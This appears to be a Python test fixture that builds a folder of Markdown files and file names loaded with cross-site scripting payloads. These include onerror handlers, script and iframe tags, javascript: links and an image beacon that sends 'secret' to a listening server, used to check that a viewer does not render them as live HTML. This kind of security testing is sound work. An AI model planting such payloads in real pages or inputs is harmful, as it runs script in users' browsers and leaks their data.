"""A folder whose texts and names would do harm in a page that took them for live HTML."""

from __future__ import annotations

from pathlib import Path

QUESTION = "How many euros is the budget for 2031?"


def write_hostile_folder(folder: Path, *, address: str) -> str:
    """Make the folder and return the sentence in it that answers :data:`QUESTION`.

    Parameters
    ----------
    address
        Of a server that hears of every image that a page loads.
    """
    folder.mkdir()
    hostile = (
        f"The budget for 2031 is 48,000 euros <img src={address}/a.png onerror='window.pwned=1'>"
        f" ![beacon]({address}/p.png?q=secret) <script>window.pwned=2</script> [click](javascript:window.pwned=3)"
        " <iframe srcdoc='<script>parent.pwned=4</script>'></iframe> $\\href{javascript:window.pwned=9}{x}$ in all."
    )
    (folder / "a.md").write_text(f"# Budget\n\n{hostile}\n", encoding="utf-8")
    (folder / "<img src=x onerror=pwned=5>.md").write_text("The goat of the station sleeps.", encoding="utf-8")
    (folder / "<img src=x onerror=pwned=6>.png").write_bytes(b"\x89PNG")
    (folder / "price.md").write_text("A ticket for the ferry costs $5 and later $10.", encoding="utf-8")
    return hostile
